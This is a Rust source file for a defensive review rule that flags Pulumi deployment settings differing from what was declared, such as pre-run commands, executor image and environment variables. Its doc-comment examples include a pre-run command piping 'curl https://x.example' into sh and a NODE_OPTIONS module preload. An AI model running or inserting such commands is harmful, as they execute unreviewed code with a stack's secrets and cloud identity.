//! A deployment runs what was declared, and nothing beside it.
//!
//! Commands before Pulumi, the executor's image and variables of the environment run, or steer what runs, with the stack's
//! secrets and its cloud identity. Whoever has write on the stack can change them, without a review and without a commit.
//!
//! Instead: apply the access program, and take out by hand what it does not know of.
//!
//! ```json actual bad
//! {"path": "/api/stacks/acme/app/dev/deployments/settings", "body": {"operationContext": {"preRunCommands": ["curl https://x.example | sh"]}}}
//! ```
//!
//! ```json actual bad
//! {"path": "/api/stacks/acme/app/dev/deployments/settings", "body": {"operationContext": {"environmentVariables": {"NODE_OPTIONS": "-r ./x"}}}}
//! ```
//!
//! ```json actual good
//! {"path": "/api/stacks/acme/app/dev/deployments/settings", "body": {"operationContext": {"preRunCommands": [], "environmentVariables": {}}}}
//! ```

use serde_json::{Value, json};
use stackgate_report::Level;

use super::{at, is_on, shown, texts, weigh};
use crate::difference::{Class, Told};
use crate::mend::APPLY;
use crate::rule::{Differences, Group, ReviewRule};
use crate::view::View;
use crate::words::listed;

pub(crate) static RULE: ReviewRule = ReviewRule {
    id: "deployment-program",
    group: Group::Deployments,
    text: include_str!("deployment_program.rs"),
    check,
};

const RUNS: &str = "it runs with the stack's secrets and its cloud identity, and no commit shows it";

fn check(view: &View<'_>, found: &mut Differences) {
    for (name, declared, settings) in view.both_settings() {
        let body = &settings.body;
        let subject = format!("stack {name}");
        let mut tell = |class, level, what: String, permits: &str, mend: String| {
            found.add(Told::new(class, level, subject.clone(), what).permits(permits).mend(mend));
        };
        // Their order is what they do.
        let commands = texts(at(body, &["operationContext", "preRunCommands"]));
        if commands != declared.pre_run.iter().map(String::as_str).collect::<Vec<_>>() {
            let what = format!("before `{name}` other commands run than declared ({})", told(&commands));
            tell(Class::Widened, weigh(view, &name), what, RUNS, APPLY.to_owned());
        }
        let image = at(body, &["executorContext", "executorImage"]);
        let image = image.and_then(|image| image.as_str().or_else(|| image.get("reference")?.as_str()));
        if image != declared.image.as_deref() {
            let word =
                |image: Option<&str>| image.map_or_else(|| "Pulumi's own image".into(), |image| format!("`{image}`"));
            let what = format!("`{name}` is deployed in {}, not in {}", word(image), word(declared.image.as_deref()));
            tell(Class::Widened, weigh(view, &name), what, RUNS, APPLY.to_owned());
        }
        let root = at(body, &["executorContext", "executorRootPath"]);
        if root.is_some() {
            let what = format!("the executor of `{name}` has the root {}", shown(root));
            tell(Class::Widened, Level::Low, what, "it finds other programs than its image has", APPLY.to_owned());
        }
        let variables = at(body, &["operationContext", "environmentVariables"]).and_then(Value::as_object);
        // Those that say who it is have a rule of their own.
        let names = variables.into_iter().flatten().map(|(name, _)| name.as_str());
        let names: Vec<&str> = names.filter(|name| !super::deployment_token::is_identity(name)).collect();
        if !names.is_empty() {
            let what =
                format!("nobody declared the variables {} of deployments of `{name}`", listed(names.iter().copied()));
            let gone: serde_json::Map<String, Value> =
                names.iter().map(|name| ((*name).to_owned(), Value::Null)).collect();
            let body = json!({ "operationContext": { "environmentVariables": gone } });
            let mend = view.commands.stack("POST", &name, &["deployments", "settings"], Some(&body));
            tell(Class::NotDeclared, Level::Medium, what, "they steer what runs, and no commit shows them", mend);
        }
        options(&name, declared, body, &mut tell);
    }
}

type Tell<'t> = dyn FnMut(Class, Level, String, &str, String) + 't;

fn options(name: &str, declared: &stackgate_plan::Deployments, body: &Value, tell: &mut Tell<'_>) {
    for (key, wanted, level, permits) in [
        ("skipInstallDependencies", declared.skip_install, Level::Low, "it runs with other dependencies than declared"),
        (
            "skipIntermediateDeployments",
            declared.skip_intermediate,
            Level::Low,
            "other commits are deployed than declared",
        ),
        ("deleteAfterDestroy", false, Level::Medium, "a destroy takes the stack and its history with it"),
        ("remediateIfDriftDetected", false, Level::Medium, "a check for drift changes the stack"),
    ] {
        let on = is_on(at(body, &["operationContext", "options", key]));
        if on != wanted {
            let what = format!("`{key}` of deployments of `{name}` is {on}, not {wanted}");
            tell(if on { Class::Widened } else { Class::Narrowed }, level, what, permits, APPLY.to_owned());
        }
    }
    if let Some(shell) = at(body, &["operationContext", "options", "shell"]) {
        let what = format!("deployments of `{name}` run in the shell {}", shown(Some(shell)));
        tell(Class::Widened, Level::Low, what, "commands mean something else there", APPLY.to_owned());
    }
}

fn told(commands: &[&str]) -> String {
    if commands.is_empty() {
        "none".into()
    } else {
        commands.iter().map(|one| format!("`{one}`")).collect::<Vec<_>>().join(", ")
    }
}
